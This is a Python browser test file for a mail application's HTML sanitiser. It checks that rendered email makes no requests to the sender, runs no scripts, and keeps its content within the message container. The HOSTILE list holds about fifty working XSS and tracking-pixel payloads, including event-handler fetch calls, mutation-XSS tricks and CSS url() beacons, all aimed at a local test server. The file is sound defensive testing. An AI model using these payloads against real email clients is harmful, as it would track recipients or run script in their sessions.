"""Safe HTML in Chromium: nothing runs, nobody learns that it was opened, and the message's own images are shown."""

from __future__ import annotations

import base64
import re
import time
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from threading import Thread
from typing import Final

import pytest
from playwright.sync_api import Browser, Page

from mailroom.messages import parse
from mailroom.messages.html import safe_html
from tests.browser import running_browser, shared_page

PNG: Final = base64.b64decode(
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="
)

# What senders write to learn that a message was opened, or to run something; {T} is an address of theirs.
HOSTILE: Final = [
    "<img src='{T}'>",
    "<img src='http:&#10;//{HOST}'>",
    "<img src='//{HOST}'>",
    "<img srcset='{T} 1x, {T} 2x'>",
    "<picture><source srcset='{T}'><img src='cid:logo@x'></picture>",
    "<image src='{T}'>",
    "<input type=image src='{T}'>",
    "<link rel=stylesheet href='{T}'>",
    "<link rel=icon href='{T}'>",
    "<link rel=preload as=image href='{T}'>",
    "<link rel=prefetch href='{T}'>",
    "<style>@import '{T}';</style>",
    "<style>body{background:url({T})}</style>a",
    "<style>@font-face{font-family:x;src:url({T})}p{font-family:x}</style><p>a</p>",
    "<p style='background:url({T})'>a</p>",
    "<p style='background:u\\72l({T})'>a</p>",
    "<p style='background-image:image-set(\"{T}\" 1x)'>a</p>",
    "<p style='background-color:red;list-style:url({T});display:list-item'>a</p>",
    "<p style='border-image:url({T}) 1;border:3px solid'>a</p>",
    "<p style='cursor:url({T}),auto'>a</p>",
    "<p style='--x:url({T});background:var(--x)'>a</p>",
    "<table background='{T}'><tr><td background='{T}'>a</table>",
    "<body background='{T}'>a",
    "<video poster='{T}' autoplay></video>",
    "<video src='{T}' autoplay></video>",
    "<audio src='{T}' autoplay></audio>",
    "<object data='{T}'></object>",
    "<embed src='{T}'>",
    "<iframe src='{T}'></iframe>",
    "<iframe srcdoc=\"<img src='{T}'>\"></iframe>",
    "<frameset><frame src='{T}'></frameset>",
    "<svg width=9 height=9><image href='{T}' width=9 height=9 /></svg>",
    "<svg width=9 height=9><image xlink:href='{T}' width=9 height=9 /></svg>",
    "<svg><filter id=f><feImage href='{T}'/></filter><rect width=9 height=9 filter='url(#f)'/></svg>",
    "<svg><style>*{background:url({T})}</style><rect width=9 height=9 /></svg>",
    "<script src='{T}'></script>",
    "<script>fetch('{T}')</script>",
    "<img src=x onerror=\"fetch('{T}')\">",
    "<details open ontoggle=\"fetch('{T}')\"><summary>a</summary>b</details>",
    "<svg onload=\"fetch('{T}')\"></svg>",
    "<input autofocus onfocus=\"fetch('{T}')\">",
    "<p style='animation:x 1ms' onanimationend=\"fetch('{T}')\">a</p><style>@keyframes x{}</style>",
    "<meta http-equiv=refresh content='0;url={T}'>",
    "<base href='{T}/'><img src=relative.gif>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=fetch('{T}')&gt;\">",
    "<noscript><p title=\"</noscript><img src=x onerror=fetch('{T}')>\"></noscript>",
    "<svg></p><style><a id=\"</style><img src=1 onerror=fetch('{T}')>\">",
    "<template><img src='{T}'></template><img src='{T}'>",
    "<!--><img src='{T}'>-->",
    "<img src='cid:logo@x\" onerror=\"fetch(`{T}`)'>",
    '<img alt="`><img src={T}>',
]

LEAVING: Final = ("<meta", "<base", "<frameset", "<iframe", "<object", "<embed", "<video", "<audio")
"""Tricks that go elsewhere, or open what does: not shown as they were sent, since a browser does not come back from each."""


CONTAINER: Final = re.search(
    r"```css\n\.message \{\n(.*?)\}\n```",
    Path(__file__).parents[3].joinpath("docs/messages.md").read_text("utf-8"),
    re.DOTALL,
)
"""What the documents say that a page's container must have."""

OVERDRAWING: Final = [
    *(
        f"<div style='{style};background-color:red'>one and only<br>two<br><a href='https://e.example/'>three</a></div>"
        for style in (
            *("text-indent:-200px", "height:0;line-height:20px", "margin-bottom:-90px", "letter-spacing:-3em"),
            *("line-height:0", "line-height:1px", "width:0;white-space:nowrap", "width:3000px", "min-width:3000px"),
            *(
                "direction:rtl;white-space:nowrap;width:1px",
                "padding-left:900px;white-space:nowrap",
                "border-radius:900px",
            ),
            *("border:90px solid red", "max-width:1px", "text-decoration:underline 300px", "border-spacing:900px"),
        )
    ),
    *(
        f"<span style='{style};background-color:red'>span</span>"
        for style in ("padding:200px", "border:200px solid red", "vertical-align:-90px", "vertical-align:400px")
    ),
    f"<p>{'w' * 900}</p>",
    f"<p dir=rtl style='white-space:nowrap'>{'word ' * 200}</p>",
    "<p style='line-height:10px'><font style='font-size:400px'>W</font></p>",
    "<table width=3000 height=1 bgcolor=red style='height:0'><tr><td nowrap height=1>a<br>b<br>c</table>",
    "<img src='cid:logo@x' width=3000 height=20>",
    f"<p>a{chr(0x300) * 300}</p>",
]


@dataclass
class Site:
    """A web server on loopback: what it serves, and what it was asked for, with the page that led there."""

    pages: dict[str, tuple[str, bytes]] = field(default_factory=dict)
    asked: list[tuple[str, str]] = field(default_factory=list)
    address: str = ""


@contextmanager
def serving() -> Iterator[Site]:
    """A site that runs."""
    site = Site()

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            site.asked.append((self.path, self.headers.get("Referer", "")))
            kind, body = site.pages.get(self.path, ("text/plain", b""))
            self.send_response(200)
            self.send_header("Content-Type", kind)
            self.send_header("Content-Length", str(len(body)))
            self.send_header("Access-Control-Allow-Origin", "*")
            self.end_headers()
            self.wfile.write(body)

        def log_message(self, format: str, *args: object) -> None:
            pass

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    server.daemon_threads = True
    thread = Thread(target=server.serve_forever, kwargs={"poll_interval": 0.02})
    thread.start()
    site.address = f"http://127.0.0.1:{server.server_port}"
    try:
        yield site
    finally:
        server.shutdown()
        thread.join()
        server.server_close()


@pytest.fixture(scope="module")
def browser() -> Iterator[Browser]:
    """Debian's Chromium."""
    with running_browser() as running:
        yield running


@pytest.fixture
def sender() -> Iterator[Site]:
    """The site of whoever wrote the mail."""
    with serving() as site:
        yield site


@pytest.fixture
def application() -> Iterator[Site]:
    """The site that shows the mail."""
    with serving() as site:
        site.pages["/attachments/2"] = ("image/png", PNG)
        yield site


def hostile(number: int, sender: Site) -> str:
    """One of the tricks, with addresses that tell which."""
    address = f"{sender.address}/{number}"
    return HOSTILE[number].replace("{T}", address).replace("{HOST}", address.removeprefix("http://"))


def safe(html: str) -> str:
    """The HTML as an application shows it, with one image of the message."""
    raw = (
        b"Content-Type: multipart/related; boundary=x\r\n\r\n--x\r\nContent-Type: text/html; charset=utf-8\r\n\r\n"
        + html.encode()
        + b"\r\n--x\r\nContent-Type: image/png\r\nContent-ID: <logo@x>\r\nContent-Transfer-Encoding: base64\r\n\r\n"
        + base64.b64encode(PNG)
        + b"\r\n--x--\r\n"
    )
    return safe_html(parse(raw), lambda attachment: f"/attachments/{attachment.path}")


def show(page: Page, application: Site, name: str, html: str) -> None:
    """Open a page of the application that has this HTML in it."""
    application.pages[name] = ("text/html; charset=utf-8", f"<!doctype html><title>Mail</title>{html}".encode())
    page.goto(f"{application.address}{name}", wait_until="load")


def test_nothing_is_asked_of_the_sender(browser: Browser, sender: Site, application: Site) -> None:
    """Not by one of the ways, most of which work where the HTML is shown as it was sent."""
    page = shared_page(browser, seconds=20)
    for number in range(len(HOSTILE)):
        show(page, application, f"/safe/{number}", safe(hostile(number, sender)))
    show(page, application, "/safe/all", "".join(safe(hostile(number, sender)) for number in range(len(HOSTILE))))
    page.wait_for_load_state("networkidle")
    assert sender.asked == []
    assert {path for path, _ in application.asked} <= {"/attachments/2", "/favicon.ico", *application.pages}
    for number, trick in enumerate(HOSTILE):
        if not trick.startswith(LEAVING):
            show(page, application, f"/sent/{number}", hostile(number, sender))
    deadline = time.monotonic() + 10
    while len(succeeded := {path.split("/")[1] for path, _ in sender.asked}) <= 30 and time.monotonic() < deadline:
        page.wait_for_timeout(50)
    assert len(succeeded) > 30


def test_own_images_are_shown(browser: Browser, application: Site) -> None:
    """Where the HTML has them."""
    page = shared_page(browser, seconds=20)
    show(page, application, "/image", safe("<p>Hello <img src='cid:logo@x' width=20 alt=Logo></p>"))
    assert page.evaluate("document.images[0].naturalWidth") == 1
    assert page.locator("p").inner_text().strip() == "Hello"


def test_links_tell_nothing_of_the_page(browser: Browser, sender: Site, application: Site) -> None:
    """Whoever follows one comes without the address of the page, and without a way back to it."""
    with browser.new_context() as context:
        page = context.new_page()
        show(page, application, "/link", safe(f"<a href='{sender.address}/offer' target=_blank>offer</a>"))
        page.get_by_text("offer").click()
        page.wait_for_url(f"{sender.address}/offer")
        assert page.evaluate("window.opener") is None
    assert ("/offer", "") in sender.asked


def around(page: Page, application: Site, message: str, *, container: str) -> tuple[bytes, bytes]:
    """Visible parts of the menu beside the message, and of the message below."""
    box = "background-color:#ffffff;width:240px;height:200px"
    show(
        page,
        application,
        "/around",
        f"<body style='margin:0'><div style='display:flex;align-items:start'><div id=menu style='flex:none;{box}'></div>"
        f"<div style='flex:1;min-width:0'><div style='{container}'>{message}</div>"
        f"<div id=below style='{box}'></div></div></div>",
    )
    return page.locator("#menu").screenshot(), page.locator("#below").screenshot()


def test_nothing_is_drawn_over_the_page(browser: Browser, application: Site) -> None:
    """Whatever is let through stays in the container that the documents name; without it, some of it does not."""
    assert CONTAINER is not None
    container = " ".join(CONTAINER[1].split())
    page = shared_page(browser, width=800, height=1200, seconds=20)
    clean = around(page, application, "<p>Hello</p>", container=container)
    for trick in OVERDRAWING:
        assert around(page, application, safe(trick), container=container) == clean, trick
    assert any(around(page, application, safe(trick), container="") != clean for trick in OVERDRAWING)


def test_styles_alone_keep_to_their_box(browser: Browser, application: Site) -> None:
    """Negative indents and margins, and heights without room, are gone without any container."""
    page = shared_page(browser, width=800, height=1200, seconds=20)
    clean = around(page, application, "<p>Hello</p>", container="")
    for trick in OVERDRAWING[:6]:
        assert around(page, application, safe(trick), container="") == clean, trick
    for trick in OVERDRAWING[:2]:
        assert around(page, application, trick, container="") != clean, trick
